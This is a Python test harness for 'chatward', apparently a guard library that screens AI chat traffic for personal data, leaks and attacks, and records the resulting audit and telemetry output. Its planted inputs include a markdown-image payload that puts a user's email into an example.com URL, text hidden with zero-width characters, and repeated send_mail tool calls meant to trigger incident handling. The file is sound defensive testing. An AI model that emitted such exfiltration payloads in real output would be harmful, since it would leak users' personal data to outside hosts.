"""The life of a guard with everything on, full of planted values.

It lives in a process of its own: OpenTelemetry and Prometheus have one place each for a process.
"""

from __future__ import annotations

import json
import sys
from contextlib import suppress
from pathlib import Path

from evidence_parts import (
    ATTACK,
    CONVERSATIONS,
    FORGED,
    PEOPLE,
    PROTECTED,
    SCHOOL_BOOK,
    USERS,
    written_policy,
)

from chatward import ChatwardError, Guard, load_policy
from chatward.decision import Door
from chatward.detectors.leaks.canary import issue_canary
from chatward.passage import Origin
from chatward.testing import GUISES, disguised


def texts(times=1):
    """What people, models, tools and documents say: values in every guise, attacks, nothing."""
    for number, guise in enumerate(GUISES * times):
        person = PEOPLE[number % len(PEOPLE)]
        said = " and ".join(disguised(each, guise) for _, each in person.items())
        yield f"{person.text} Written otherwise: {said}"
    yield ATTACK
    yield f"{PROTECTED} {PEOPLE[0].mail}"
    yield f"![x](https://example.com/?q={PEOPLE[1].mail}) \u200bhidden\u200b {PEOPLE[1].card}"
    yield f"half a pair \ud83d of {PEOPLE[2].name}"
    yield "Good morning, what does an account cost?"


class Life:
    """All that a guard does; keeps the reference of every decision that was acknowledged."""

    def __init__(self, guard):
        self.guard = guard
        self.references = []

    def asks(self, text, origin, number=0, **more):
        """Inspect a text of a conversation, of a user with a name."""
        more.setdefault("conversation", CONVERSATIONS[number % len(CONVERSATIONS)])
        made_up = (
            f"tool:{PEOPLE[0].mail}" if origin == "tool" else ""
        )  # a model names what it likes
        door = Door("our-web-app", source=made_up, user=USERS[number % len(USERS)])
        decision = self.guard.inspect(text, origin=origin, door=door, **more)
        self.references.append(decision.reference)
        return decision

    def talks(self, times=1):
        """Texts of all origins."""
        for number, text in enumerate(texts(times)):
            for origin in Origin:
                self.asks(text, origin, number, role="guest")
            self.asks(text, "user", conversation=None)

    def streams(self):
        """Guard answers of a model as they arrive."""
        for number, text in enumerate([*(each.text for each in PEOPLE), ATTACK, PROTECTED]):
            at = CONVERSATIONS[number]
            stream = self.guard.stream(origin="model", conversation=at)
            for begin in range(0, len(text), 9):
                stream.feed(text[begin : begin + 9])
            stream.finish()
            self.references.append(stream.decision.reference)

    def works(self):
        """Tools, attachments, what is kept, what is released."""
        guard, who = self.guard, PEOPLE[0]
        at = CONVERSATIONS[0]
        asked = self.asks(who.text, "user").text
        with guard.at_rest(at) as rest:
            rest.show(rest.hide(f"{who.text} {asked}"))
        for to in ("user", "tool:send_mail.body", f"tool:{who.mail}", f"tool:send.{who.mail}"):
            guard.restore(asked, conversation=at, to=to)
        restorer = guard.restorer(conversation=at)
        restorer.feed(asked)
        restorer.finish()
        for name in ("read_page", who.mail, who.name):
            guard.check_call(name, {who.mail: 1, "to": who.card}, conversation=at, role="staff")
            guard.note_result("read_page", conversation=at)
        for origin in ("user", "document", "tool"):
            guard.check_attachments({"image": 1, who.mail: 2}, origin=origin, conversation=at)
        guard.note_traffic("input", 400, 60.0)
        guard.note_hand_off(at, did="asked", why="three refusals")
        guard.note_intent(who.mail, conversation=at)

    def reviewed(self):
        """Grants, blocked texts, appeals."""
        at, review = CONVERSATIONS[1], self.guard.review
        blocked = self.asks(SCHOOL_BOOK, "user", 1)
        token = review.issue_grant(at, "read-quarantine", note="ticket 7")
        assert review.text(blocked.reference, grant=token) == SCHOOL_BOOK
        event = decided(Path(self.guard.policy.audit.file), blocked.reference)
        review.appeals.forgive(event, text=SCHOOL_BOOK, note="ticket 8")
        assert self.asks(SCHOOL_BOOK, "user", 2).known_good
        review.appeals.uphold(event, note="ticket 9")
        kept = review.issue_grant(at, "read-vault", note="ticket 10", once=False)
        review.value("<EMAIL_ADDRESS_1_zzzzzzzz>", conversation=at, grant=kept)
        review.revoke_grant(kept)

    def changed(self, folder, url):
        """Policies that are taken, refused, and taken back."""
        guard = self.guard
        rule = {"name": "no-cards", "kinds": ["credit-card"], "action": "block"}
        says = {"version": "2", "change": "no cards", "rules": [rule]}
        guard.reload(written_policy(folder, url, name="next.yml", **says))
        self.talks()
        unread = (f'"{PROTECTED}": 1', f"extends: {PROTECTED}", f"protected: [*{PROTECTED}]")
        for broken in (*unread, f"{PROTECTED}: [", f'protected: ["{PROTECTED}", 5]', "{"):
            (folder / "broken.yml").write_text(broken, "utf-8")
            with suppress(ChatwardError):
                guard.reload(folder / "broken.yml")
        guard.roll_back()

    def attacked(self):
        """What opens incidents, and what is held back then."""
        guard = self.guard
        for number in range(4):
            self.asks(f"{FORGED} {PEOPLE[number % 3].mail}", "user", 3)
            guard.check_call("send_mail", {"to": PEOPLE[0].mail}, conversation=CONVERSATIONS[4])
        self.asks(f"{issue_canary()} {PEOPLE[1].card}", "model", 5)
        for _ in range(2):
            with suppress(ChatwardError):
                guard.review.text("nothing", grant="no grant")
            other = guard.review.issue_grant(CONVERSATIONS[6], "read-vault", note="ticket 11")
            with suppress(ChatwardError):
                guard.review.value("<AGE_1_zzzzzzzz>", conversation=CONVERSATIONS[0], grant=other)
        self.talks()

    def forgets(self):
        """Some ask to be forgotten, one of whom nobody knows."""
        for each in (CONVERSATIONS[0], CONVERSATIONS[7], f"nobody {PEOPLE[0].mail}"):
            self.guard.forget(each)


def decided(path, reference):
    """The event of a decision, as the log has it."""
    import msgspec

    from chatward.audit.event import AuditEvent
    from chatward.audit.reading import read_lines

    lines = [each for each in read_lines([path]) if f'"{reference}"'.encode() in each]
    return msgspec.json.decode(lines[0], type=AuditEvent)


def lived(folder, url):
    """Live once; leave beside the log what the other sinks have."""
    import logging

    logging.basicConfig(level=logging.DEBUG, stream=sys.stderr)
    folder, observed = Path(folder), _observed()
    life = Life(Guard(load_policy(folder / "policy.yml")))
    life.talks(times=2)
    life.streams()
    life.works()
    life.reviewed()
    life.changed(folder, url)
    life.attacked()
    life.forgets()
    _finish(life.guard)
    (folder / "said.json").write_text(json.dumps(life.references), "utf-8")
    for name, text in observed().items():
        (folder / name).write_text(text, "utf-8")


def _finish(guard):
    """Wait for messages as the end of the program does, so that all sinks have all."""
    guard._audit.responder.finish(10.0)


def _observed():
    """Set OpenTelemetry up; return what reads it and Prometheus."""
    from opentelemetry._logs import set_logger_provider
    from opentelemetry.metrics import set_meter_provider
    from opentelemetry.sdk._logs import LoggerProvider
    from opentelemetry.sdk._logs import export as exports
    from opentelemetry.sdk.metrics import MeterProvider
    from opentelemetry.sdk.metrics.export import InMemoryMetricReader
    from prometheus_client import generate_latest

    kind = getattr(exports, "InMemoryLogRecordExporter", None) or exports.InMemoryLogExporter
    kept, reader = kind(), InMemoryMetricReader()
    provider = LoggerProvider()
    provider.add_log_record_processor(exports.SimpleLogRecordProcessor(kept))
    set_logger_provider(provider)
    set_meter_provider(MeterProvider([reader]))

    def read():
        records = [each.log_record for each in kept.get_finished_logs()]
        said = [dict(each.attributes) | {"name": each.body} for each in records]
        return {
            "otel.jsonl": "".join(f"{json.dumps(each, default=list)}\n" for each in said),
            "otel-metrics.json": reader.get_metrics_data().to_json(),
            "prometheus.txt": generate_latest().decode(),
        }

    return read


def worked(folder, name, count):
    """Work beside others: some texts of one's own, some of a conversation that all are in."""
    guard = Guard(load_policy(Path(folder) / "policy.yml"))
    shared = CONVERSATIONS[0]
    for number in range(int(count)):
        told = guard.inspect(PEOPLE[number % 3].text, origin="user", conversation=f"own {name}")
        sys.stdout.write(f"{told.reference}\n")
        if number % 5 == 0:
            told = guard.inspect(issue_canary(), origin="model", conversation=shared)
            sys.stdout.write(f"{told.reference}\n")
        sys.stdout.flush()  # acknowledged
